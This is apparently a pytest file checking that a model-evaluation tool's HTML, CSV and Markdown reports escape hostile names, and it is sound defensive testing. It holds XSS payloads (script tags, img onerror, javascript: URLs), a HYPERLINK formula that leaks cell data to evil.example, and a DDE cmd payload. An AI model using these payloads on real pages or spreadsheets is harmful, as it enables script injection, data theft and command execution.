"""Names are other people's text: in every HTML report kind they are shown, never run (checked
in a real Chromium, tooltips included), and in CSV and Markdown exports they cannot become
spreadsheet formulas or table markup."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml

from baimo.reports.html import Report, safe_option, safe_template, script_json
from baimo.tabular import csv_cell, csv_text, md_cell, md_table
from support import render_in_chromium

SCRIPT = "<script>window.__pwned=1</script>"
IMG = "<img src=x onerror=window.__pwned=1>"
COMMENT = "<!--<script>"
JS_URL = "javascript:window.__pwned=1"
PAYLOADS = [f"s{SCRIPT}", f"i{IMG}", f"c{COMMENT}", JS_URL]
"""Model, task, category, dimension and vendor names used below (distinct, so each can be a
name)."""

# Runs in the page after it is ready: hover every data item of every chart (tooltips are
# HTML), then report whether anything ran, how many charts exist and drew, what tooltips
# showed, and any javascript: link.
PROBE = """async () => {
  const out = {charts: 0, instances: 0, drawn: 0, tips: []};
  const pause = () => new Promise((r) => setTimeout(r, 15));
  for (const el of document.querySelectorAll('.chart')) {
    out.charts++;
    const chart = echarts.getInstanceByDom(el);
    if (!chart) continue;
    out.instances++;
    if (el.querySelector('svg path, svg text')) out.drawn++;
    const series = chart.getOption().series || [];
    for (let si = 0; si < series.length; si++) {
      // the first items, and every item (tree nodes included) whose name is hostile
      const data = chart.getModel().getSeriesByIndex(si).getData();
      const picks = [];
      for (let di = 0; di < data.count(); di++) {
        if (di < 8 || /__pwned|<!--|javascript:/.test(String(data.getName(di)))) picks.push(di);
      }
      for (const di of picks.length ? picks : [0]) {
        chart.dispatchAction({type: 'showTip', seriesIndex: si, dataIndex: di});
        await pause();
        for (const d of el.querySelectorAll('div')) {
          if (!d.querySelector('svg') && d.innerText && d.style.display !== 'none')
            out.tips.push(d.innerText);
        }
      }
    }
    chart.dispatchAction({type: 'hideTip'});
  }
  await new Promise((r) => setTimeout(r, 300));  // let any injected <img> fail and fire
  out.jsLinks = [...document.querySelectorAll('[href], [src], [action]')].filter(
    (e) => /^\\s*javascript:/i.test(e.getAttribute('href') || e.getAttribute('src')
                                   || e.getAttribute('action') || '')).length;
  out.injected = document.querySelectorAll('img[onerror], main script, section script').length;
  out.pwned = window.__pwned === undefined ? null : String(window.__pwned);
  return out;
}"""


def _check_in_chromium(html: Path, tmp_path: Path, min_charts: int,
                       must_show: list[str]) -> dict[str, Any]:
    shown = render_in_chromium(html, tmp_path / f"{html.stem}.png",
                               probes={"p": lambda page: page.evaluate(PROBE)})
    p = shown.probes["p"]
    assert shown.errors == [], shown.errors
    assert p["pwned"] is None, f"script ran in {html.name}"
    assert p["injected"] == 0 and p["jsLinks"] == 0
    assert p["charts"] >= min_charts and p["instances"] == p["charts"] == p["drawn"] \
        == shown.charts, p
    text = html.read_text(encoding="utf-8")
    page_text = " ".join(shown.headings) + " ".join(p["tips"])
    for name in must_show:  # shown as text somewhere: in the page or a tooltip
        assert name in page_text or _escaped(name) in text, name
    assert any("onerror" in t for t in p["tips"]), "no tooltip showed a hostile name"
    return p


def _assert_tables_intact(md: str) -> None:
    """Every row of every Markdown table has as many cell separators as its header."""
    width = None
    for line in md.splitlines():
        if not line.startswith("|"):
            width = None
            continue
        cells = line.replace("\\|", "").count("|")
        width = cells if width is None else width
        assert cells == width, line


def _escaped(s: str) -> str:
    import html

    return html.escape(s, quote=True)


# ------------------------------------------------------------------------- units


def test_script_json_cannot_leave_its_script_block() -> None:
    value = {"a": f"</script>{SCRIPT}{COMMENT}&\u2028\u2029", "b": [1.5, None, -3]}
    text = script_json(value)
    for bad in ("<", ">", "&", "\u2028", "\u2029"):
        assert bad not in text
    assert json.loads(text) == value


def test_tooltip_templates_keep_formatting_and_drop_markup() -> None:
    t = safe_template(f"<b>{{b}}</b><br/>{IMG} {{@[0]}}<i>x</i><BR>{SCRIPT}")
    assert t.startswith("<b>{b}</b><br/>&lt;img src=x") and "<i>x</i><BR>" in t
    assert "<script" not in t and "<img" not in t
    opt = safe_option({"tooltip": {"formatter": IMG}, "series": [
        {"label": {"formatter": IMG}, "tooltip": {"formatter": IMG}},
        {"type": "treemap", "data": [{"name": "x", "link": JS_URL},
                                     {"name": "y", "link": "https://example.com/"}]}],
        "title": {"link": " JavaScript:alert(1)", "sublink": "#s2"}})
    assert opt["tooltip"]["formatter"] == opt["series"][0]["tooltip"]["formatter"] == \
        "&lt;img src=x onerror=window.__pwned=1>"
    assert opt["series"][0]["label"]["formatter"] == IMG  # drawn as SVG text, not HTML
    assert "link" not in opt["series"][1]["data"][0]
    assert opt["series"][1]["data"][1]["link"] == "https://example.com/"
    assert "link" not in opt["title"] and opt["title"]["sublink"] == "#s2"


def test_rendered_page_has_only_its_own_scripts() -> None:
    r = Report(f"t{SCRIPT}", COMMENT)
    r.section(f"A {COMMENT}", "<p>body</p>", charts=[(
        {"xAxis": {"type": "category", "data": PAYLOADS}, "yAxis": {},
         "series": [{"type": "bar", "name": n, "data": [1, 2, 3, 4]} for n in PAYLOADS]}, 300)])
    html = r.render()
    assert html.count("<script") == 3  # the data block, ECharts, the page's own script
    assert SCRIPT not in html and COMMENT not in html and IMG not in html


def test_csv_cells_are_spreadsheet_safe() -> None:
    link = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    cells = [csv_cell(v) for v in (link, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", -3.5,
                                   "-3.5", "+7", "1e-3", 0, None, "plain", "a=b", True)]
    assert cells == ["'" + link, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", -3.5, "-3.5",
                     "+7", "1e-3", 0, "", "plain", "a=b", True]
    text = csv_text(["name", "score"], [[link, -3.5], {"name": "-3.5", "score": None}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "score"], ["'" + link, "-3.5"], ["-3.5", ""]]


def test_markdown_cells_cannot_break_the_table() -> None:
    assert md_cell("a|b\nc") == "a\\|b c"
    assert md_cell(IMG) == "&lt;img src=x onerror=window.__pwned=1&gt;"
    assert md_cell("[x](javascript:alert(1))") == "\\[x\\](javascript:alert(1))"
    lines = md_table(["model", "n"], [["a|b", 1]], align="lr")
    assert lines == ["| model | n |", "|---|---:|", "| a\\|b | 1 |"]


# ------------------------------------------------------------------------- the reports


EVAL_MODELS = [*PAYLOADS, "p|ipe"]


def _eval_run(tmp_path: Path) -> tuple[Any, str]:
    from baimo.config import load_config
    from baimo.runs.eval import run_eval
    from baimo.store.store import Store
    from baimo.tasks.task import load_task
    from baimo.testing.mockserver import MockConfig, MockServer
    from support import write_models

    data = tmp_path / "hostile.jsonl"
    data.write_bytes(b"".join(orjson.dumps({
        "id": f"s{i}", "prompt": f"Q{i}? [[id:h-s{i}]] [[answer:{i}]]", "reference": str(i),
        "category": PAYLOADS[i % len(PAYLOADS)]}) + b"\n" for i in range(8)))
    task = tmp_path / "hostile.yaml"
    task.write_text(yaml.safe_dump({"name": "javascript:alert", "dataset": data.name,
                                    "scorer": {"type": "numeric"}, "dimension": IMG,
                                    "params": {"max_tokens": 16}}))
    store = Store()
    with MockServer(MockConfig(fault_rate=0.25, fault_kinds=["500"], max_faults_per_request=9)
                    ) as srv:
        write_models(tmp_path, srv.base_url, [
            {"name": n, "limits": {"max_retries": 0},
             "pricing": {"input_per_1m": 1, "output_per_1m": 2}} for n in EVAL_MODELS])
        cfg = load_config(tmp_path / "baimo.yaml")
        out = run_eval(store, [cfg.get(n) for n in EVAL_MODELS], [load_task(task)])
    return store, out.run_id


@pytest.mark.browser
def test_eval_report_with_hostile_names(tmp_path: Path) -> None:
    from baimo.reports.build import write_report

    store, run_id = _eval_run(tmp_path)
    html = write_report(store, [run_id], tmp_path / "eval.html", "html")
    _check_in_chromium(html, tmp_path, 3, PAYLOADS)
    # the same run as CSV and Markdown
    text = write_report(store, [run_id], tmp_path / "eval.csv", "csv").read_text()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["model"] for r in rows} == set(EVAL_MODELS)  # none starts with = + - @
    md = write_report(store, [run_id], tmp_path / "eval.md", "md").read_text()
    assert "<script" not in md and "<img" not in md and "<!--" not in md
    _assert_tables_intact(md)
    assert "p\\|ipe" in md


@pytest.mark.browser
def test_perf_report_and_csv_with_hostile_names(tmp_path: Path) -> None:
    from baimo.config import ModelConfig
    from baimo.perf.loads import Level
    from baimo.perf.runner import PerfSpec, run_perf, summary_csv
    from baimo.reports.perf import write_perf_report
    from baimo.store.store import Store
    from baimo.testing.mockserver import MockConfig, MockServer

    names = [f"=HYPERLINK(\"https://evil.example\",\"{IMG}\")", f"-{SCRIPT}", COMMENT]
    store = Store()
    runs = []
    with MockServer(MockConfig(output_tokens=4, ttft_s=0.002)) as srv:
        for name in names:
            cfg = ModelConfig.model_validate({"name": name, "base_url": srv.base_url})
            spec = PerfSpec(levels=[Level("concurrency", 1.0), Level("concurrency", 2.0)],
                            requests=3, input_tokens=6, output_tokens=4, ignore_eos="on",
                            tokenizer="words")
            runs.append(run_perf(store, spec, [cfg]))
    html = write_perf_report(store, [r.run_id for r in runs], tmp_path / "perf.html")
    _check_in_chromium(html, tmp_path, 3, [])
    # `baimo perf --csv`: one row per model and level, names neutralised, numbers as numbers
    levels = [lv for r in runs for lvs in r.summaries.values() for lv in lvs]
    rows = list(csv.DictReader(io.StringIO(summary_csv(levels))))
    assert [r["model"] for r in rows] == [f"'{n}" if n[0] in "=-" else n
                                          for n in names for _ in (1, 2)]
    assert all(float(r["output_tokens_per_s"]) > 0 for r in rows)


def _hostile_methodology(tmp_path: Path) -> tuple[Path, Path]:
    src = Path(__file__).resolve().parents[2] / "src" / "baimo" / "scores"
    text = (src / "methodologies" / "frost-sullivan-2023.yaml").read_text(encoding="utf-8")
    for old, new in (("产品技术能力", IMG), ("战略愿景能力", COMMENT), ("生态开放能力", SCRIPT),
                     ("Product and technology", JS_URL)):
        text = text.replace(f"name: {old}", f"name: {json.dumps(new)}").replace(
            f"name_en: {old}", f"name_en: {json.dumps(new)}")
    meth = tmp_path / "hostile-method.yaml"
    meth.write_text(text, encoding="utf-8")
    facts = (src / "data" / "frost-sullivan-2023-facts-example.csv").read_text(encoding="utf-8")
    for old, new in zip(("Example Vendor A", "Example Vendor B", "Example Vendor C"),
                        (f"A{IMG}", f"B{SCRIPT}", f"C{COMMENT}"), strict=True):
        facts = facts.replace(old, new.replace('"', '""'))
    fact_file = tmp_path / "facts.csv"
    fact_file.write_text(facts, encoding="utf-8")
    return meth, fact_file


@pytest.mark.browser
def test_score_report_with_hostile_dimension_and_entity_names(tmp_path: Path) -> None:
    from baimo.reports.decision import write_score_report
    from baimo.scores.methodology import (
        FactsTable,
        SensitivityOptions,
        load_methodology,
        score_methodology,
    )

    meth_file, facts = _hostile_methodology(tmp_path)
    m = load_methodology(meth_file)
    assert IMG in [d.name for d in m.dimensions]
    result = score_methodology(m, FactsTable.load(facts),
                               sensitivity=SensitivityOptions(draws=100))
    html = write_score_report(result, m, tmp_path / "score.html")
    p = _check_in_chromium(html, tmp_path, 4, [f"A{IMG}"])
    # the quadrant's tooltip names its axes after the dimensions: shown as text
    assert any(IMG in t for t in p["tips"]), p["tips"][:5]


@pytest.mark.browser
def test_advice_report_with_hostile_model_names(tmp_path: Path) -> None:
    from baimo.advise import ModelMeasurements, advise, get_scenario
    from baimo.reports.decision import write_advice_report
    from baimo.scores.sensitivity import linear_sensitivity

    def mm(name: str, cap: float, ttft: float, p: float) -> ModelMeasurements:
        return ModelMeasurements(name=name, metrics={
            "capability": cap, "ttft_p95_s": ttft, "output_tps": 50, "price_in_per_1m": p,
            "price_out_per_1m": 3 * p, "context_window": 32000},
            attributes={"currency": "CNY", "deployment": "api"})
    ms = [mm(n, 0.5 + 0.1 * i, 0.3 + 0.2 * i, 1 + i) for i, n in enumerate(PAYLOADS)]
    profile = get_scenario("tolerant-simple")
    advice = advise(ms, profile)
    html = write_advice_report(tmp_path / "advice.html", advice, profile, ms,
                               sensitivity=linear_sensitivity(
                                   advice.weights, {r.name: r.criterion_scores
                                                    for r in advice.ranked}))
    _check_in_chromium(html, tmp_path, 4, PAYLOADS)


def _hostile_catalog() -> list[Any]:
    from baimo.landscape import load_catalog

    records = [r for r in load_catalog(include_user=False) if r.market == "domestic"]
    out = []
    for i, r in enumerate(records):
        if i < len(PAYLOADS):
            r = r.model_copy(update={"vendor": PAYLOADS[i], "model": f"=cmd|' /C calc'!A{i}",
                                     "family": PAYLOADS[-1 - i]})
        out.append(r)
    return out


@pytest.mark.browser
def test_landscape_map_with_hostile_vendor_names(tmp_path: Path) -> None:
    from baimo.reports.decision import write_landscape_map

    html = write_landscape_map(tmp_path / "map.html", _hostile_catalog())
    _check_in_chromium(html, tmp_path, 2, [])


def test_landscape_export_csv_and_markdown_are_safe(tmp_path: Path) -> None:
    from baimo.cli.landscape import _render
    from baimo.landscape import load_catalog

    records = _hostile_catalog()
    text = _render(records, load_catalog(include_user=False), "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    first = rows[:len(PAYLOADS)]
    assert [r["model"] for r in first] == [f"'=cmd|' /C calc'!A{i}" for i in range(4)]
    assert [r["vendor"] for r in first] == PAYLOADS  # s<, i<, c<, j…: not formula starts
    md = _render(records, load_catalog(include_user=False), "md")
    assert "<script" not in md and "<img" not in md
    _assert_tables_intact(md)


def test_every_csv_writer_uses_the_safe_helper() -> None:
    """No module writes CSV by itself: one helper, one rule."""
    src = Path(__file__).resolve().parents[2] / "src" / "baimo"
    writers: list[str] = []
    for f in src.rglob("*.py"):
        text = f.read_text(encoding="utf-8")
        if ("csv.writer(" in text or "csv.DictWriter(" in text) and f.name != "tabular.py":
            writers.append(str(f.relative_to(src)))
    assert writers == []

